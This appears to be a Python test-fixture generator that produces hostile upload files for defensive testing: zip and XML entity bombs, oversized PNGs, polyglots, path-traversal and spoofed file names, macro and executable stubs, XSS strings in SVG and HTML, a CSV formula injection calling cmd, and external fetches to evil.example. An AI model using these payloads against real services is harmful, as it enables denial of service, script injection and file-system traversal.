"""Files that nobody means well with: bombs, two things at once, lies, halves, giants, programs, names that lead out."""

import random
import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from content.seed import source
from tests.content.words import report

Named = tuple[str, bytes]

DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9" height="9">{}</svg>'
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

SVGS = (
    "<script>alert(1)</script>",
    "<g onload='alert(1)'/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
    "<image href='https://evil.example/x.png'/>",
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<use href='data:image/svg+xml,x#y'/>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<animate attributeName='href' to='javascript:alert(1)'/>",
    "<g>" * 20_000,
)

NAMES = (
    *(
        "../../../etc/passwd.csv",
        "..\\..\\x.csv",
        "/etc/x.csv",
        "C:\\x.csv",
        "CON.csv",
        "x.csv/../../y.csv",
        ".csv",
        "csv",
    ),
    *(
        "x" * 3_000 + ".csv",
        "a\u202evsc.exe.csv",
        "<script>alert(1)<!--.csv",
        'x"; filename="y.html.csv',
        "x.html;.csv",
    ),
    *(
        "x.csv.html",
        "x.php.csv",
        "%00.csv",
        "x\u0000.csv",
        "\ud83e\uddbe.csv",
        "a;b=c.csv",
        "nul.csv",
        "x.CSV ",
        "..csv",
    ),
)


def container(parts: dict[str, bytes | str], *, packed: int = ZIP_DEFLATED) -> bytes:
    written = BytesIO()
    with ZipFile(written, "w", packed) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return written.getvalue()


def word(body: str = "", **parts: bytes | str) -> bytes:
    document = f"<w:document {W}><w:body>{body}</w:body></w:document>"
    return container({"[Content_Types].xml": TYPES, "word/document.xml": document} | parts)


def png(width: int, height: int, rows: int | None = None) -> bytes:
    """One that says it is as large as this, with so many rows of zeros in it."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    squeezed = zlib.compress(bytes(1 + width) * min(rows if rows is not None else height, 30_000), 9)
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", squeezed) + chunk(b"IEND", b"")


def moving(form: str) -> bytes:
    written = BytesIO()
    frames = [Image.new("RGB", (60, 60), (n, n, n)) for n in range(30)]
    frames[0].save(written, form, save_all=True, append_images=frames[1:], duration=50)
    return written.getvalue()


def good(chance: random.Random) -> Named:
    names = ("lascel-tijdens-proef.jpg", "keurstation.svg", "uitval-26-weken-terp.csv")
    every = [*((name, source.file(name)) for name in names), ("a.docx", report(pictures=1)), ("a.png", png(900, 700))]
    every.append(("a.pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"))
    every.append(("a.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(5_000)))
    every.append(("a.stl", b"solid x\nfacet normal 0 0 0\nendsolid x"))
    return chance.choice(every)


def bomb(chance: random.Random) -> Named:
    zeros = bytes(chance.choice((60, 150, 210)) * 1_000_000)
    laughs = (
        "<!DOCTYPE a [<!ENTITY b '"
        + "x" * 1_000
        + "'>"
        + "".join(f"<!ENTITY c{n} '{('&b;' if n == 0 else f'&c{n - 1};') * 20}'>" for n in range(8))
        + "]>"
    )
    made: tuple[Callable[[], Named], ...] = (
        lambda: ("bom.docx", word(**{"word/media/x.bin": zeros})),
        lambda: ("bom.docx", word(**{"word/_rels/document.xml.rels": zeros})),
        lambda: ("bom.docx", container({"[Content_Types].xml": zeros, "word/document.xml": "<x/>"})),
        lambda: ("bom.docx", container({"[Content_Types].xml": TYPES, "word/document.xml": f"{laughs}<w>&c7;</w>"})),
        lambda: ("bom.docx", word("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 400_000)),
        lambda: ("bom.docx", word("<w:tbl><w:tr><w:tc>" * 30_000)),
        lambda: ("bom.xlsx", container({"[Content_Types].xml": TYPES, "xl/workbook.xml": zeros})),
        lambda: ("bom.docx", word(**{f"word/x{n}.xml": "" for n in range(10_000)})),
        lambda: ("bom.png", png(60_000, 60_000, 30_000)),
        lambda: ("bom.png", png(6_300, 6_300)),
        lambda: ("bom.png", png(16_000, 2_500)),
        lambda: ("bom.svg", (laughs + DRAWING.format("<text>&c7;</text>")).encode()),
        lambda: ("bom.csv", b"a,b\n" * 4_000_000),
        lambda: ("bom.webp", moving("WEBP")),
        lambda: ("bom.png", moving("PNG")),
        lambda: ("bom.jpg", moving("GIF")),
    )
    return chance.choice(made)()


def program(chance: random.Random) -> Named:
    every = (
        ("macro.docx", word(**{"word/vbaProject.bin": "x"})),
        (
            "macro.xlsx",
            container({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/macrosheets/a.xml": "x"}),
        ),
        ("ole.docx", word(**{"word/embeddings/a.exe": b"MZ"})),
        ("haalt.docx", word(**{"word/_rels/settings.xml.rels": _outside()})),
        ("oud.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)),
        ("prog.jpg", b"MZ" + bytes(5_000)),
        ("prog.pdf", b"\x7fELF" + bytes(5_000)),
        ("pagina.csv", b"<!doctype html><script>alert(1)</script>"),
        ("pagina.txt", b"<html><body onload=alert(1)>"),
        ("formule.csv", b"=cmd|'/C calc'!A0,@SUM(1),+1,-1\n"),
        ("x.html", b"<script>alert(1)</script>"),
        ("x.zip", container({"a": b"b"})),
    )
    return chance.choice((*every, *((f"{n}.svg", DRAWING.format(one).encode()) for n, one in enumerate(SVGS))))


def _outside() -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        'Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )


def both(chance: random.Random) -> Named:
    """Two things at once."""
    page = b"<html><script>alert(1)</script></html>"
    photo = source.file("lascel-tijdens-proef.jpg")
    every = (
        ("twee.jpg", photo + page),
        ("twee.jpg", photo + container({"a.html": page})),
        ("twee.png", png(90, 90) + page),
        ("twee.pdf", b"%PDF-1.4\n" + page),
        ("twee.pdf", page + b"%PDF-1.4\n"),
        ("twee.docx", page + report(pictures=0)),
        ("twee.csv", b"a,b\n" + page),
        ("twee.jpg", b"GIF89a/*" + page + b"*/=1;"),
        ("twee.step", b"ISO-10303-21;" + page + b"END-ISO-10303-21;"),
        ("twee.stl", b"solid " + page + b" facet endsolid"),
        ("twee.mp4", b"\x00\x00\x00\x18ftypmp42" + page),
        ("twee.svg", b"<?xml version='1.0'?>" + page + DRAWING.format("").encode()),
    )
    return chance.choice(every)


def damaged(chance: random.Random) -> Named:
    """A good one, cut short or with other bytes here and there."""
    name, data = good(chance)
    hurt = bytearray(data)
    if chance.random() < 0.5:
        return name, bytes(hurt[: chance.randrange(len(hurt))])
    for _ in range(chance.randint(1, 30)):
        hurt[chance.randrange(len(hurt))] = chance.randrange(256)
    return name, bytes(hurt)


def lying(chance: random.Random) -> Named:
    """One kind under the name of another."""
    (name, _), (_other, data) = good(chance), good(chance)
    return name, data


def named(chance: random.Random) -> Named:
    """Names that lead out, end elsewhere or mean something to somebody."""
    return chance.choice(NAMES), b"a,b\n1,%d\n" % chance.randrange(10**9)


def leading_out(chance: random.Random) -> Named:
    """Names inside a container."""
    name = chance.choice(("../../../etc/x", "/etc/x", "C:\\x", "word\\..\\x", "word/../../x"))
    return "uit.docx", word(**{name: b"x"})


KINDS = (good, bomb, program, both, damaged, lying, named, leading_out)


def hostile_file(chance: random.Random, at: int) -> Named:
    """One of each kind in turn."""
    return KINDS[at % len(KINDS)](chance)
